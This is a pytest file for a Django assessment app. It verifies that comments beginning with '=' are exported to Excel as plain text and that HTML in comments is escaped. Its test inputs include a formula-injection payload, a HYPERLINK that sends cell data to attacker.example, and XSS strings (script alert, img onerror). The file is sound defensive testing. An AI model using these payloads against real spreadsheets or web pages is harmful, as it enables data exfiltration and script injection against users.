"""User text is shown as text: a comment beginning with "=" is written to Excel as text,
never as a formula, and HTML in a comment is escaped on the pages."""

import io
import re
import zipfile

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from assessments.models import Score

DANGEROUS = [
    '=HYPERLINK("http://attacker.example/?d="&A1,"Bấm vào đây")',
    "=1+1",
    "+84 912 345 678 gọi lại",
    "- Chưa ban hành kế hoạch kiểm tra",
    "@SUM(A1:A3)",
]


@pytest.fixture
def commented_scores(sample_assessment):
    scores = list(
        Score.objects.filter(assessment=sample_assessment, criterion__method="self").order_by(
            "criterion__sort_key"
        )[: len(DANGEROUS)]
    )
    for score, comment in zip(scores, DANGEROUS, strict=True):
        score.appraisal_comment = comment
        score.save()
    return {score.criterion.code: comment for score, comment in zip(scores, DANGEROUS, strict=True)}


@pytest.mark.django_db
def test_comment_beginning_with_equals_is_exported_as_text(commented_scores, tmp_path):
    path = tmp_path / "phu-luc.xlsx"
    call_command("export_annex", "--subject", "70", "--year", "2023", "-o", str(path), stdout=io.StringIO())

    with zipfile.ZipFile(path) as package:
        sheets = [name for name in package.namelist() if name.startswith("xl/worksheets/sheet")]
        for name in sheets:
            # The only formulas are the parent rows' and the total's sums over their children.
            formulas = re.findall(rb"<f(?:\s[^>]*)?>([^<]*)</f>", package.read(name))
            assert formulas, name
            assert all(re.fullmatch(rb'(SUM|IF)\([A-Z0-9,():+="&;]*\)', f) for f in formulas), name

    sheet = load_workbook(path).active
    found = {}
    for row in sheet.iter_rows():
        code = str(row[0].value or "")
        if code in commented_scores:
            found[code] = row
    assert found.keys() == commented_scores.keys()
    for code, comment in commented_scores.items():
        cells = [cell for cell in found[code] if cell.value == comment]
        assert cells, f"{code}: the comment is in the row as written"
        assert all(cell.data_type == "s" for cell in cells), code


@pytest.mark.django_db
def test_html_in_a_comment_is_escaped_on_the_appraisal_page(client, sample_assessment, django_user_model):
    score = Score.objects.filter(assessment=sample_assessment, criterion__method="self").first()
    score.appraisal_comment = '<script>alert("x")</script><img src=x onerror=alert(1)>'
    score.save()
    client.force_login(django_user_model.objects.create_superuser("quantri"))
    response = client.get(reverse("assessments:appraisal", args=[sample_assessment.pk]))
    assert response.status_code == 200
    html = response.content.decode()
    assert "<script>alert" not in html
    assert "<img src=x onerror" not in html
    assert "&lt;script&gt;alert" in html
